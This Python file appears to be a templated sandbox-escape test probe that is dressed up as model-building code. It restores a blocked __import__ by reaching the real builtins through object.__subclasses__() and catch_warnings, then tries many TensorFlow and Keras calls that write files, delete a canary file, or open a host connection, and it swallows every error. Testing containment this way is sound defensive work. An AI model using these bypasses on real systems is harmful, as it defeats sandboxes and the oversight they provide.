#!/usr/bin/env python3
"""Files written by operations of a graph, logs, dumps and checkpoints."""
from tensorflow import keras as K

# Around the guard of imports, to the wall behind it.
PLAIN = next(kind for kind in object.__subclasses__() if kind.__name__ == "catch_warnings").__init__.__globals__["__builtins__"]
__builtins__["__import__"] = (PLAIN if isinstance(PLAIN, dict) else vars(PLAIN))["__import__"]
import tensorflow as tf

TARGET = "@TARGET@/@UNIQUE@"
WAYS = (
    lambda: tf.io.write_file(TARGET, "x"),
    lambda: tf.io.gfile.GFile(TARGET, "w").write("x"),
    lambda: tf.io.gfile.makedirs(TARGET),
    lambda: tf.io.TFRecordWriter(TARGET).write(b"x"),
    lambda: tf.summary.create_file_writer(TARGET).init(),
    lambda: tf.train.Checkpoint(a=tf.Variable(1)).save(TARGET),
    lambda: tf.debugging.experimental.enable_dump_debug_info(TARGET),
    lambda: tf.profiler.experimental.start(TARGET),
    lambda: tf.data.Dataset.range(3).save(TARGET),
    lambda: tf.data.Dataset.range(3).cache(TARGET),
    lambda: tf.print("x", output_stream="file://" + TARGET),
    lambda: tf.io.gfile.copy("@CANARY_FILE@", TARGET),
    lambda: K.utils.get_file("@UNIQUE@", "file://@CANARY_FILE@", cache_dir="@TARGET@"),
    lambda: K.config.set_backend("@UNIQUE@"),
    lambda: tf.io.gfile.remove("@CANARY_FILE@"),
    lambda: tf.config.experimental_connect_to_host("127.0.0.1:@PORT@"),
    lambda: tf.data.experimental.service.DispatchServer(),
)
for way in WAYS:
    try:
        way()
    except BaseException:
        continue


def lenet5(X):
    """Build and compile."""
    return None
